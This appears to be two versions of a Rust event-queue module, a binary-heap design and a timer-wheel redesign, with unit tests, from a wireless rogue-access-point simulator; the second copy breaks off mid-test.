    heap: BinaryHeap<Entry<E>>,
    /// Seqs still in the heap and not cancelled. Gives O(1) pending
    /// checks on `cancel` (the heap itself cannot answer membership
    /// without an O(n) scan) and an exact `len()`.
    live: std::collections::HashSet<u64>,
    cancelled: std::collections::HashSet<u64>,
    next_seq: u64,
    now: SimTime,
    dispatched: u64,
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> EventQueue<E> {
    /// An empty queue positioned at time zero.
    pub fn new() -> Self {
        EventQueue {
            heap: BinaryHeap::new(),
            live: std::collections::HashSet::new(),
            cancelled: std::collections::HashSet::new(),
            next_seq: 0,
            now: SimTime::ZERO,
            dispatched: 0,
        }
    }

    /// Current simulation time: the fire time of the last popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Number of events dispatched so far (monotone run statistic).
    pub fn dispatched(&self) -> u64 {
        self.dispatched
    }

    /// Number of pending (non-cancelled) events.
    pub fn len(&self) -> usize {
        self.live.len()
    }

    /// True when nothing is pending.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Schedule `event` to fire at absolute time `at`.
    ///
    /// Scheduling in the past is a logic error in the caller and panics:
    /// silently clamping would hide causality bugs in protocol code.
    pub fn schedule(&mut self, at: SimTime, event: E) -> EventId {
        assert!(
            at >= self.now,
            "attempted to schedule event in the past ({at:?} < {:?})",
            self.now
        );
        let seq = self.next_seq;
        self.next_seq += 1;
        self.live.insert(seq);
        self.heap.push(Entry { at, seq, event });
        self.assert_disjoint();
        EventId(seq)
    }

    /// Schedule `event` at `at` under an externally assigned sequence
    /// number. This is the shard hook: a [`crate::ShardedQueue`] draws
    /// seqs from one global counter and injects entries into per-shard
    /// queues, so that the k-way `(time, seq)` merge across shards pops
    /// in exactly the order a single queue would have. `seq` must be
    /// fresh (never scheduled on this queue before); the internal
    /// counter is bumped past it so mixing with [`Self::schedule`] stays
    /// collision-free.
    pub fn schedule_at_seq(&mut self, at: SimTime, seq: u64, event: E) -> EventId {
        assert!(
            at >= self.now,
            "attempted to schedule event in the past ({at:?} < {:?})",
            self.now
        );
        assert!(
            !self.live.contains(&seq) && !self.cancelled.contains(&seq),
            "seq {seq} already known to this queue"
        );
        self.next_seq = self.next_seq.max(seq + 1);
        self.live.insert(seq);
        self.heap.push(Entry { at, seq, event });
        self.assert_disjoint();
        EventId(seq)
    }

    /// Cancel a previously scheduled event. Returns true if it was still
    /// pending. Cancellation is lazy: the entry is tombstoned here in
    /// O(1) and physically dropped at pop time.
    pub fn cancel(&mut self, id: EventId) -> bool {
        if self.live.remove(&id.0) {
            self.cancelled.insert(id.0);
            self.assert_disjoint();
            true
        } else {
            false
        }
    }

    /// Invariant: a seq is live xor cancelled, never both. A seq in both
    /// sets would make `len()` lie and could double-dispatch after a
    /// tombstone miss in `skip_cancelled`.
    #[inline]
    fn assert_disjoint(&self) {
        debug_assert!(
            self.live.is_disjoint(&self.cancelled),
            "live and cancelled seq sets intersect"
        );
    }

    /// Fire time of the next pending event, if any.
    pub fn peek_time(&mut self) -> Option<SimTime> {
        self.skip_cancelled();
        self.heap.peek().map(|e| e.at)
    }

    /// `(fire_time, seq)` of the next pending event, if any.
    ///
    /// The seq is the global tiebreak for same-instant events; the
    /// sharded merge uses this to pick which shard's head fires next
    /// without popping speculatively.
    pub fn peek_next(&mut self) -> Option<(SimTime, u64)> {
        self.skip_cancelled();
        self.heap.peek().map(|e| (e.at, e.seq))
    }

    /// Pop the next event, advancing `now` to its fire time.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        self.skip_cancelled();
        let entry = self.heap.pop()?;
        self.live.remove(&entry.seq);
        debug_assert!(entry.at >= self.now);
        self.now = entry.at;
        self.dispatched += 1;
        self.assert_disjoint();
        Some((entry.at, entry.event))
    }

    /// Pop the next event only if it fires **at or before** `deadline`.
    ///
    /// The boundary is inclusive (`t <= deadline`) and that inclusivity
    /// is load-bearing, not incidental:
    ///
    /// - `World::run_until(deadline)` promises that after it returns,
    ///   every effect scheduled up to and including `deadline` has been
    ///   applied. The scenario tick loop (`run_summary`) relies on this:
    ///   it advances in `tick`-sized slices and steps mobility/WIDS
    ///   *after* `run_until(now)`, so a TX that completes exactly on a
    ///   tick boundary must be delivered before the detector samples —
    ///   an exclusive boundary would defer it one whole tick.
    /// - The sharded lockstep loop uses window edges as deadlines; a
    ///   window `[start, end]` owns events with `t <= end`, and the next
    ///   window starts strictly after. Inclusive-here / exclusive-next
    ///   partitions the timeline with no event falling between windows.
    ///
    /// Callers audited for off-by-one window assumptions (PR 8):
    /// `World::run_until` is the only non-test caller; the medium's
    /// horizon pruning uses `now()` snapshots, not deadlines, and is
    /// unaffected by the boundary convention.
    pub fn pop_until(&mut self, deadline: SimTime) -> Option<(SimTime, E)> {
        match self.peek_time() {
            Some(t) if t <= deadline => self.pop(),
            _ => None,
        }
    }

    /// Consume the queue, yielding every pending (non-cancelled) event
    /// as `(fire_time, seq, event)` in unspecified order. Used to
    /// migrate a queue into a different shard layout with sequence
    /// numbers — and therefore dispatch order — preserved.
    pub fn into_entries(self) -> Vec<(SimTime, u64, E)> {
        let live = self.live;
        self.heap
            .into_iter()
            .filter(|e| live.contains(&e.seq))
            .map(|e| (e.at, e.seq, e.event))
            .collect()
    }

    /// Iterate every pending (non-cancelled) event in **unspecified
    /// order**, yielding `(fire_time, seq, &event)`.
    ///
    /// This is a read-only snapshot used by the sharded loop's plan
    /// phase to gather the events inside a lockstep window without
    /// popping them; dispatch order still comes exclusively from
    /// [`Self::pop`]'s `(time, seq)` ordering.
    pub fn iter_pending(&self) -> impl Iterator<Item = (SimTime, u64, &E)> {
        self.heap
            .iter()
            .filter(|e| self.live.contains(&e.seq))
            .map(|e| (e.at, e.seq, &e.event))
    }

    fn skip_cancelled(&mut self) {
        while let Some(top) = self.heap.peek() {
            if self.cancelled.remove(&top.seq) {
                self.heap.pop();
            } else {
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn fifo_within_same_instant() {
        let mut q = EventQueue::new();
        let t = SimTime::from_millis(5);
        q.schedule(t, "a");
        q.schedule(t, "b");
        q.schedule(t, "c");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, vec!["a", "b", "c"]);
    }

    #[test]
    fn time_ordering() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_millis(30), 3);
        q.schedule(SimTime::from_millis(10), 1);
        q.schedule(SimTime::from_millis(20), 2);
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(10), 1));
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(20), 2));
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(30), 3));
        assert!(q.pop().is_none());
    }

    #[test]
    fn now_advances_with_pop() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(1), ());
        assert_eq!(q.now(), SimTime::ZERO);
        q.pop();
        assert_eq!(q.now(), SimTime::from_secs(1));
        assert_eq!(q.dispatched(), 1);
    }

    #[test]
    #[should_panic(expected = "in the past")]
    fn scheduling_in_the_past_panics() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(10), ());
        q.pop();
        q.schedule(SimTime::from_secs(5), ());
    }

    #[test]
    fn cancel_removes_event() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), "doomed");
        q.schedule(SimTime::from_millis(2), "kept");
        assert!(q.cancel(id));
        assert!(!q.cancel(id), "double cancel must be false");
        assert_eq!(q.len(), 1);
        assert_eq!(q.pop().unwrap().1, "kept");
    }

    #[test]
    fn cancel_unknown_id_is_false() {
        let mut q: EventQueue<()> = EventQueue::new();
        assert!(!q.cancel(EventId(999)));
    }

    #[test]
    fn cancel_after_fire_is_false() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), "fired");
        assert_eq!(q.pop().unwrap().1, "fired");
        assert!(!q.cancel(id), "already-fired event is not pending");
        assert!(q.is_empty());
    }

    #[test]
    fn len_stays_exact_under_cancel_storm() {
        // A deauth-flood shape: many schedules, half cancelled, with
        // interleaved pops. len() must stay exact throughout.
        let mut q = EventQueue::new();
        let mut ids = Vec::new();
        for i in 0..200u64 {
            ids.push(q.schedule(SimTime::from_millis(i + 1), i));
        }
        for id in ids.iter().step_by(2) {
            assert!(q.cancel(*id));
        }
        assert_eq!(q.len(), 100);
        let mut seen = 0;
        while let Some((_, e)) = q.pop() {
            assert!(e % 2 == 1, "only odd (uncancelled) events fire");
            seen += 1;
            assert_eq!(q.len(), 100 - seen);
        }
        assert_eq!(seen, 100);
        assert!(q.is_empty());
    }

    #[test]
    fn pop_until_respects_deadline() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_millis(10), 1);
        q.schedule(SimTime::from_millis(20), 2);
        assert_eq!(q.pop_until(SimTime::from_millis(15)).unwrap().1, 1);
        assert!(q.pop_until(SimTime::from_millis(15)).is_none());
        assert_eq!(q.pop_until(SimTime::from_millis(25)).unwrap().1, 2);
    }

    #[test]
    fn pop_until_deadline_is_inclusive() {
        // An event at exactly the deadline fires in THIS window; one
        // nanosecond later belongs to the next. Both sides of the
        // boundary are pinned because the scenario tick loop and the
        // sharded lockstep windows partition time on this convention.
        let t = SimTime::from_millis(10);
        let mut q = EventQueue::new();
        q.schedule(t, "on-boundary");
        q.schedule(t + SimDuration::from_nanos(1), "past-boundary");
        assert_eq!(
            q.pop_until(t).unwrap(),
            (t, "on-boundary"),
            "t == deadline must fire"
        );
        assert!(
            q.pop_until(t).is_none(),
            "t == deadline + 1ns must NOT fire"
        );
        assert_eq!(
            q.pop_until(t + SimDuration::from_nanos(1)).unwrap().1,
            "past-boundary"
        );
    }

    #[test]
    fn pop_until_drains_same_instant_ties_in_seq_order() {
        // Several events at exactly the deadline: repeated pop_until
        // calls must drain them all, in scheduling order, before
        // returning None.
        let t = SimTime::from_millis(7);
        let mut q = EventQueue::new();
        q.schedule(t, "a");
        q.schedule(t, "b");
        q.schedule(t, "c");
        let drained: Vec<&str> = std::iter::from_fn(|| q.pop_until(t).map(|(_, e)| e)).collect();
        assert_eq!(drained, vec!["a", "b", "c"]);
        assert!(q.is_empty());
    }

    #[test]
    fn pop_until_with_cancelled_head_at_boundary() {
        // A tombstoned head exactly at the deadline must be skipped, not
        // counted, and must not mask a live event at the same instant.
        let t = SimTime::from_millis(3);
        let mut q = EventQueue::new();
        let doomed = q.schedule(t, "doomed");
        q.schedule(t, "live");
        q.cancel(doomed);
        assert_eq!(q.pop_until(t).unwrap().1, "live");
        assert!(q.pop_until(t).is_none());
        assert_eq!(q.dispatched(), 1, "cancelled event never dispatches");
    }

    #[test]
    fn schedule_at_seq_merges_with_local_seqs() {
        // The shard hook: externally assigned seqs interleave with
        // locally assigned ones in strict (time, seq) order, and the
        // internal counter never collides with an injected seq.
        let t = SimTime::from_millis(1);
        let mut q = EventQueue::new();
        q.schedule_at_seq(t, 5, "five");
        q.schedule_at_seq(t, 2, "two");
        let id = q.schedule(t, "six"); // counter bumped past 5 -> seq 6
        assert_eq!(q.len(), 3);
        assert_eq!(q.pop().unwrap().1, "two");
        assert_eq!(q.pop().unwrap().1, "five");
        assert_eq!(q.pop().unwrap().1, "six");
        assert!(!q.cancel(id), "already fired");
    }

    #[test]
    #[should_panic(expected = "already known")]
    fn schedule_at_seq_rejects_duplicate_seq() {
        let mut q = EventQueue::new();
        q.schedule_at_seq(SimTime::from_millis(1), 7, ());
        q.schedule_at_seq(SimTime::from_millis(2), 7, ());
    }

    #[test]
    fn peek_skips_cancelled_head() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), 1);
        q.schedule(SimTime::from_millis(2), 2);
        q.cancel(id);
        assert_eq!(q.peek_time(), Some(SimTime::from_millis(2)));
    }

    #[test]
    fn heavy_interleaving_is_stable() {
        let mut q = EventQueue::new();
        let base = SimTime::from_millis(1) + SimDuration::ZERO;
        for i in 0..1000u64 {
            q.schedule(base, i);
        }
        let got: Vec<u64> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(got, (0..1000).collect::<Vec<_>>());
    }
}
