//! The pending-event set.
//!
//! A deterministic priority queue: events are ordered by
//! `(fire_time, sequence_number)`, where the sequence number is assigned at
//! scheduling time. Two events scheduled for the same instant therefore fire
//! in the order they were scheduled — a property the reproduction's
//! association-race experiment (E1) depends on, because a victim that hears
//! a rogue beacon and a legitimate beacon "simultaneously" must resolve the
//! tie the same way on every run.
//!
//! ## Structure (PR 9)
//!
//! The queue used to be a `BinaryHeap` plus two SipHash `HashSet`s for
//! cancellation — three hash/heap operations per event on the hottest path
//! in the simulator. It is now a **hierarchical timer wheel over a slab**:
//!
//! * Every scheduled event owns a **slab slot** holding `(seq, at, event)`.
//!   Cancellation looks the slot up by index, takes the payload, and frees
//!   the slot — O(1), no hashing. A reused slot gets a new (strictly larger)
//!   seq, so a stale wheel reference `(slot, old_seq)` can never alias a
//!   newer event: the seq comparison at pop time rejects it.
//! * Fire order comes from a 6-level × 64-slot wheel of `Node { at, seq,
//!   slot }` references at 1024 ns tick granularity, with a `u64` occupancy
//!   bitmap per level and an overflow list for deltas beyond the wheel
//!   horizon (~19.5 h). A cursor walks occupied ticks via bitmap scans;
//!   each visited tick's nodes are drained into a `current` run sorted by
//!   `(at, seq)` and consumed front-to-back.
//!
//! **Pop-order identity argument** (see DESIGN.md §16 for the long form):
//! ticks partition time, and the wheel invariants guarantee (a) every node
//! outside `current` has tick strictly greater than the cursor, (b) within
//! a level, occupied slots all lie strictly ahead of the cursor's position,
//! so bitmap `trailing_zeros` visits ticks in increasing order, and (c) a
//! cascade or overflow pull only moves nodes downward relative to a cursor
//! that never decreases. Hence ticks are drained in increasing order, and
//! inside one drain the explicit `(at, seq)` sort gives exactly the
//! `BinaryHeap` order. Same-tick inserts that arrive while the tick is
//! being consumed (tick ≤ cursor, legal because `at ≥ now`) binary-search
//! into the unconsumed suffix of `current`, preserving the sort. The
//! differential proptest in `tests/queue_props.rs` pins this against a
//! reference `BinaryHeap` implementation for arbitrary interleavings.

use crate::time::SimTime;

/// log2(nanoseconds per wheel tick): 1024 ns.
const LOG_G: u32 = 10;
/// log2(slots per wheel level).
const SLOT_BITS: u32 = 6;
const SLOTS: usize = 1 << SLOT_BITS;
/// Levels in the hierarchy. 6 × 6 bits = 2^36 ticks ≈ 19.5 h of horizon;
/// anything further out waits in `overflow`.
const LEVELS: usize = 6;
/// Don't bother compacting tombstones below this resident count.
const COMPACT_FLOOR: usize = 64;

/// Opaque handle returned by [`EventQueue::schedule`], usable to cancel.
///
/// Identity (equality/hashing) is the sequence number alone — the slot is a
/// private O(1) lookup hint. Two handles for the same scheduled event (e.g.
/// observed through a [`crate::ShardedQueue`] and its inner queue, which
/// share one seq counter) therefore compare equal.
#[derive(Clone, Copy, Debug)]
pub struct EventId {
    slot: u32,
    seq: u64,
}

impl PartialEq for EventId {
    fn eq(&self, other: &Self) -> bool {
        self.seq == other.seq
    }
}
impl Eq for EventId {}
impl std::hash::Hash for EventId {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.seq.hash(state);
    }
}

/// A wheel reference to a slab entry. 20 bytes; copied freely.
#[derive(Clone, Copy)]
struct Node {
    at: SimTime,
    seq: u64,
    slot: u32,
}

/// Slab entry. `event == None` marks a free (or cancelled-and-reclaimed)
/// slot; `seq` stays behind so stale wheel nodes are recognised.
struct Slot<E> {
    seq: u64,
    at: SimTime,
    event: Option<E>,
}

/// Deterministic future-event list.
///
/// ```
/// use rogue_sim::{EventQueue, SimTime};
/// let mut q = EventQueue::new();
/// q.schedule(SimTime::from_millis(2), "later");
/// q.schedule(SimTime::from_millis(1), "sooner");
/// assert_eq!(q.pop().unwrap().1, "sooner");
/// assert_eq!(q.now(), SimTime::from_millis(1));
/// ```
pub struct EventQueue<E> {
    slab: Vec<Slot<E>>,
    free: Vec<u32>,
    /// Exact number of pending (non-cancelled) events.
    live: usize,
    /// Cancelled nodes still resident in the wheel structures.
    stale: usize,
    /// Sorted `(at, seq)` run of nodes with tick ≤ `cursor`; consumed from
    /// `head` forward. Reused across ticks.
    current: Vec<Node>,
    head: usize,
    /// `LEVELS × SLOTS` buckets, flattened.
    levels: Vec<Vec<Node>>,
    /// Per-level occupancy bitmap (bit s ↔ slot s non-empty).
    occ: [u64; LEVELS],
    /// Nodes beyond the wheel horizon. Always in a strictly later aligned
    /// 2^36-tick window than `cursor`, hence later than every wheel node.
    overflow: Vec<Node>,
    overflow_min_tick: u64,
    /// Current wheel tick: every node outside `current` has tick > cursor.
    cursor: u64,
    next_seq: u64,
    now: SimTime,
    dispatched: u64,
    /// Debug shadow of pending seqs, preserving the duplicate-seq guard on
    /// [`Self::schedule_at_seq`] without hashing on the release hot path.
    #[cfg(debug_assertions)]
    pending_seqs: std::collections::HashSet<u64>,
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

#[inline]
fn tick_of(at: SimTime) -> u64 {
    at.0 >> LOG_G
}

impl<E> EventQueue<E> {
    /// An empty queue positioned at time zero.
    pub fn new() -> Self {
        EventQueue {
            slab: Vec::new(),
            free: Vec::new(),
            live: 0,
            stale: 0,
            current: Vec::new(),
            head: 0,
            levels: (0..LEVELS * SLOTS).map(|_| Vec::new()).collect(),
            occ: [0; LEVELS],
            overflow: Vec::new(),
            overflow_min_tick: u64::MAX,
            cursor: 0,
            next_seq: 0,
            now: SimTime::ZERO,
            dispatched: 0,
            #[cfg(debug_assertions)]
            pending_seqs: std::collections::HashSet::new(),
        }
    }

    /// Current simulation time: the fire time of the last popped event.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Number of events dispatched so far (monotone run statistic).
    pub fn dispatched(&self) -> u64 {
        self.dispatched
    }

    /// Number of pending (non-cancelled) events.
    pub fn len(&self) -> usize {
        self.live
    }

    /// True when nothing is pending.
    pub fn is_empty(&self) -> bool {
        self.live == 0
    }

    /// Diagnostic: nodes resident in the wheel structures — pending events
    /// plus cancelled tombstones not yet reclaimed. Tombstone compaction
    /// keeps this ≤ `2·len() + O(1)`; the cancel-storm proptest pins that.
    pub fn resident(&self) -> usize {
        (self.current.len() - self.head)
            + self.levels.iter().map(Vec::len).sum::<usize>()
            + self.overflow.len()
    }

    #[inline]
    fn alloc_slot(&mut self, at: SimTime, seq: u64, event: E) -> u32 {
        if let Some(slot) = self.free.pop() {
            let s = &mut self.slab[slot as usize];
            s.seq = seq;
            s.at = at;
            s.event = Some(event);
            slot
        } else {
            let slot = self.slab.len() as u32;
            self.slab.push(Slot {
                seq,
                at,
                event: Some(event),
            });
            slot
        }
    }

    /// Place a node whose tick is strictly beyond `cursor` into the wheel
    /// (or overflow). Level = position of the highest differing bit group
    /// between the node's tick and the cursor.
    #[inline]
    fn wheel_insert(&mut self, n: Node) {
        let t = tick_of(n.at);
        let x = t ^ self.cursor;
        debug_assert!(t >= self.cursor);
        let level = if x == 0 {
            0
        } else {
            ((63 - x.leading_zeros()) / SLOT_BITS) as usize
        };
        if level >= LEVELS {
            self.overflow_min_tick = self.overflow_min_tick.min(t);
            self.overflow.push(n);
            return;
        }
        let slot = ((t >> (SLOT_BITS * level as u32)) & (SLOTS as u64 - 1)) as usize;
        self.levels[level * SLOTS + slot].push(n);
        self.occ[level] |= 1 << slot;
    }

    /// Insert a freshly scheduled node: same-or-past tick (legal while the
    /// cursor's tick is being consumed, since `at ≥ now`) merges into the
    /// unconsumed suffix of `current`; future ticks go to the wheel.
    fn insert_node(&mut self, n: Node) {
        if tick_of(n.at) <= self.cursor {
            let key = (n.at, n.seq);
            let tail = &self.current[self.head..];
            let pos = self.head + tail.partition_point(|m| (m.at, m.seq) < key);
            self.current.insert(pos, n);
        } else {
            self.wheel_insert(n);
        }
    }

    /// Schedule `event` to fire at absolute time `at`.
    ///
    /// Scheduling in the past is a logic error in the caller and panics:
    /// silently clamping would hide causality bugs in protocol code.
    pub fn schedule(&mut self, at: SimTime, event: E) -> EventId {
        assert!(
            at >= self.now,
            "attempted to schedule event in the past ({at:?} < {:?})",
            self.now
        );
        let seq = self.next_seq;
        self.next_seq += 1;
        self.insert_seq(at, seq, event)
    }

    /// Schedule `event` at `at` under an externally assigned sequence
    /// number. This is the shard hook: a [`crate::ShardedQueue`] draws
    /// seqs from one global counter and injects entries into per-shard
    /// queues, so that the k-way `(time, seq)` merge across shards pops
    /// in exactly the order a single queue would have. `seq` must be
    /// fresh (never pending on this queue); the internal counter is
    /// bumped past it so mixing with [`Self::schedule`] stays
    /// collision-free. The freshness requirement is checked in debug
    /// builds only — the release hot path carries no seq-membership
    /// index.
    pub fn schedule_at_seq(&mut self, at: SimTime, seq: u64, event: E) -> EventId {
        assert!(
            at >= self.now,
            "attempted to schedule event in the past ({at:?} < {:?})",
            self.now
        );
        #[cfg(debug_assertions)]
        assert!(
            !self.pending_seqs.contains(&seq),
            "seq {seq} already known to this queue"
        );
        self.next_seq = self.next_seq.max(seq + 1);
        self.insert_seq(at, seq, event)
    }

    fn insert_seq(&mut self, at: SimTime, seq: u64, event: E) -> EventId {
        let slot = self.alloc_slot(at, seq, event);
        self.live += 1;
        #[cfg(debug_assertions)]
        self.pending_seqs.insert(seq);
        self.insert_node(Node { at, seq, slot });
        EventId { slot, seq }
    }

    /// Cancel a previously scheduled event. Returns true if it was still
    /// pending. The slab entry is reclaimed immediately — O(1), no hash —
    /// while the wheel node becomes a tombstone, skipped at pop time and
    /// swept out when tombstones outnumber live events.
    pub fn cancel(&mut self, id: EventId) -> bool {
        let Some(s) = self.slab.get_mut(id.slot as usize) else {
            return false;
        };
        if s.seq != id.seq || s.event.is_none() {
            return false;
        }
        s.event = None;
        self.free.push(id.slot);
        self.live -= 1;
        self.stale += 1;
        #[cfg(debug_assertions)]
        self.pending_seqs.remove(&id.seq);
        self.maybe_compact();
        true
    }

    /// True when the wheel node still refers to a pending slab entry.
    #[inline]
    fn node_live(slab: &[Slot<E>], n: &Node) -> bool {
        let s = &slab[n.slot as usize];
        s.seq == n.seq && s.event.is_some()
    }

    /// Advance `head` past tombstones; if `current` runs dry, pull the
    /// next occupied tick out of the wheel. Returns false when the whole
    /// queue is empty. Afterwards `current[head]` is the live minimum.
    fn ensure_head(&mut self) -> bool {
        loop {
            while self.head < self.current.len() {
                if Self::node_live(&self.slab, &self.current[self.head]) {
                    return true;
                }
                self.head += 1;
                self.stale -= 1;
            }
            if !self.next_tick() {
                return false;
            }
        }
    }

    /// Move the cursor to the next occupied tick and drain that tick's
    /// nodes into `current`, sorted by `(at, seq)`. Cascades upper-level
    /// slots downward as the cursor enters them; jumps to the overflow
    /// window only once the wheel is empty (overflow nodes live in a
    /// strictly later aligned window, hence after every wheel node).
    fn next_tick(&mut self) -> bool {
        self.current.clear();
        self.head = 0;
        loop {
            if self.occ[0] != 0 {
                let s = self.occ[0].trailing_zeros() as u64;
                self.cursor = (self.cursor >> SLOT_BITS << SLOT_BITS) + s;
                self.occ[0] &= !(1u64 << s);
                let bucket = &mut self.levels[s as usize];
                self.current.append(bucket);
                self.current.sort_unstable_by_key(|n| (n.at, n.seq));
                return true;
            }
            let Some(level) = (1..LEVELS).find(|&l| self.occ[l] != 0) else {
                if self.overflow.is_empty() {
                    return false;
                }
                // Wheel empty: jump to the overflow window and pull in
                // every node that now fits; the rest stay overflow with a
                // refreshed minimum.
                self.cursor = self.overflow_min_tick;
                self.overflow_min_tick = u64::MAX;
                let pulled = std::mem::take(&mut self.overflow);
                for n in pulled {
                    self.wheel_insert(n);
                }
                continue;
            };
            let s = self.occ[level].trailing_zeros();
            let span = 1u64 << (SLOT_BITS * level as u32);
            let group_bits = SLOT_BITS * (level as u32 + 1);
            let group = self.cursor >> group_bits << group_bits;
            self.cursor = group + s as u64 * span;
            self.occ[level] &= !(1u64 << s);
            let nodes = std::mem::take(&mut self.levels[level * SLOTS + s as usize]);
            for n in nodes {
                // Re-lands at a level strictly below `level`.
                self.wheel_insert(n);
            }
        }
    }

    /// Fire time of the next pending event, if any.
    pub fn peek_time(&mut self) -> Option<SimTime> {
        if self.ensure_head() {
            Some(self.current[self.head].at)
        } else {
            None
        }
    }

    /// `(fire_time, seq)` of the next pending event, if any.
    ///
    /// The seq is the global tiebreak for same-instant events; the
    /// sharded merge uses this to pick which shard's head fires next
    /// without popping speculatively.
    pub fn peek_next(&mut self) -> Option<(SimTime, u64)> {
        if self.ensure_head() {
            let n = &self.current[self.head];
            Some((n.at, n.seq))
        } else {
            None
        }
    }

    /// Pop the next event, advancing `now` to its fire time.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        if !self.ensure_head() {
            return None;
        }
        let n = self.current[self.head];
        self.head += 1;
        let s = &mut self.slab[n.slot as usize];
        let event = s.event.take().expect("ensure_head checked liveness");
        self.free.push(n.slot);
        self.live -= 1;
        #[cfg(debug_assertions)]
        self.pending_seqs.remove(&n.seq);
        debug_assert!(n.at >= self.now);
        self.now = n.at;
        self.dispatched += 1;
        Some((n.at, event))
    }

    /// Pop the next event only if it fires **at or before** `deadline`.
    ///
    /// The boundary is inclusive (`t <= deadline`) and that inclusivity
    /// is load-bearing, not incidental:
    ///
    /// - `World::run_until(deadline)` promises that after it returns,
    ///   every effect scheduled up to and including `deadline` has been
    ///   applied. The scenario tick loop (`run_summary`) relies on this:
    ///   it advances in `tick`-sized slices and steps mobility/WIDS
    ///   *after* `run_until(now)`, so a TX that completes exactly on a
    ///   tick boundary must be delivered before the detector samples —
    ///   an exclusive boundary would defer it one whole tick.
    /// - The sharded lockstep loop uses window edges as deadlines; a
    ///   window `[start, end]` owns events with `t <= end`, and the next
    ///   window starts strictly after. Inclusive-here / exclusive-next
    ///   partitions the timeline with no event falling between windows.
    ///
    /// Callers audited for off-by-one window assumptions (PR 8):
    /// `World::run_until` is the only non-test caller; the medium's
    /// horizon pruning uses `now()` snapshots, not deadlines, and is
    /// unaffected by the boundary convention.
    pub fn pop_until(&mut self, deadline: SimTime) -> Option<(SimTime, E)> {
        match self.peek_time() {
            Some(t) if t <= deadline => self.pop(),
            _ => None,
        }
    }

    /// Consume the queue, yielding every pending (non-cancelled) event
    /// as `(fire_time, seq, event)` in unspecified order. Used to
    /// migrate a queue into a different shard layout with sequence
    /// numbers — and therefore dispatch order — preserved.
    pub fn into_entries(self) -> Vec<(SimTime, u64, E)> {
        self.slab
            .into_iter()
            .filter_map(|s| s.event.map(|e| (s.at, s.seq, e)))
            .collect()
    }

    /// Iterate every pending (non-cancelled) event in **unspecified
    /// order**, yielding `(fire_time, seq, &event)`.
    ///
    /// This is a read-only snapshot used by the sharded loop's plan
    /// phase to gather the events inside a lockstep window without
    /// popping them; dispatch order still comes exclusively from
    /// [`Self::pop`]'s `(time, seq)` ordering.
    pub fn iter_pending(&self) -> impl Iterator<Item = (SimTime, u64, &E)> {
        self.slab
            .iter()
            .filter_map(|s| s.event.as_ref().map(|e| (s.at, s.seq, e)))
    }

    /// Lazy tombstone compaction: once cancelled nodes outnumber live
    /// ones, sweep every wheel structure and drop stale nodes, so cancel
    /// storms keep resident memory O(live). Amortized O(1) per cancel.
    fn maybe_compact(&mut self) {
        if self.stale <= self.live || self.stale <= COMPACT_FLOOR {
            return;
        }
        self.current.drain(..self.head);
        self.head = 0;
        let slab = &self.slab;
        self.current.retain(|n| Self::node_live(slab, n));
        for (i, bucket) in self.levels.iter_mut().enumerate() {
            if bucket.is_empty() {
                continue;
            }
            bucket.retain(|n| Self::node_live(slab, n));
            if bucket.is_empty() {
                self.occ[i / SLOTS] &= !(1u64 << (i % SLOTS));
            }
        }
        self.overflow.retain(|n| Self::node_live(slab, n));
        self.overflow_min_tick = self
            .overflow
            .iter()
            .map(|n| tick_of(n.at))
            .min()
            .unwrap_or(u64::MAX);
        self.stale = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn fifo_within_same_instant() {
        let mut q = EventQueue::new();
        let t = SimTime::from_millis(5);
        q.schedule(t, "a");
        q.schedule(t, "b");
        q.schedule(t, "c");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop().map(|(_, e)| e)).collect();
        assert_eq!(order, vec!["a", "b", "c"]);
    }

    #[test]
    fn time_ordering() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_millis(30), 3);
        q.schedule(SimTime::from_millis(10), 1);
        q.schedule(SimTime::from_millis(20), 2);
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(10), 1));
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(20), 2));
        assert_eq!(q.pop().unwrap(), (SimTime::from_millis(30), 3));
        assert!(q.pop().is_none());
    }

    #[test]
    fn now_advances_with_pop() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(1), ());
        assert_eq!(q.now(), SimTime::ZERO);
        q.pop();
        assert_eq!(q.now(), SimTime::from_secs(1));
        assert_eq!(q.dispatched(), 1);
    }

    #[test]
    #[should_panic(expected = "in the past")]
    fn scheduling_in_the_past_panics() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(10), ());
        q.pop();
        q.schedule(SimTime::from_secs(5), ());
    }

    #[test]
    fn cancel_removes_event() {
        let mut q = EventQueue::new();
        let id = q.schedule(SimTime::from_millis(1), "doomed");
        q.schedule(SimTime::from_millis(2), "kept");
        assert!(q.cancel(id));
        assert!(!q.cancel(id), "double cancel must be false");
        assert_eq!(q.len(), 1);
        assert_eq!(q.pop().unwrap().1, "kept");
    }

    #[test]
    fn cancel_unknown_id_is_false() {
        let mut q: EventQueue<()> = EventQueue::new();
        assert!(!q.cancel(EventId {
            slot: 999,
            seq: 999
        }));
    }

    #[test]
